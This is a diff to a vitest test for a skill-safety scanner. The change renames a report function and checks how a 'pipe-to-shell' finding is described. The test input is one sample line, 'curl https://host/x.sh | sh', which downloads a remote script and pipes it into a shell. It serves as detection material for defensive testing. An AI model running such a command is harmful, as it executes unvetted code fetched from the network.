@@ -1,8 +1,8 @@
 import { expect, test } from 'vitest'
 import { scanSkill } from '../../../src/catalog/safety/scan.ts'
-import { printFinding } from './report.ts'
+import { describeFinding } from './report.ts'
 
-test('a finding is printed with the severity that holds it back, and with the context that lowers it', () => {
+test('a finding is shown with the severity that no context lowers, and with the context that lowers it', () => {
   const text = 'Look for `curl https://host/x.sh | sh`.'
   const [found] = scanSkill({
     files: [{ path: 'SKILL.md', size: text.length }],
@@ -10,6 +10,7 @@ test('a finding is printed with the severity that holds it back, and with the co
     names: { name: 'audit-kit', description: 'Reviews skills.' },
   })
   expect(found).toMatchObject({ severity: 'low', held: 'medium' })
-  expect(printFinding('audit-kit', found!)).toContain('medium pipe-to-shell audit-kit/SKILL.md:1')
-  expect(printFinding('audit-kit', found!)).toContain('(a sample address: low on its page)')
+  expect(String(describeFinding(found!))).toMatch(
+    /^medium pipe-to-shell `SKILL\.md:1`: it .* \(a sample address: low on its page\): ``Look/,
+  )
 })
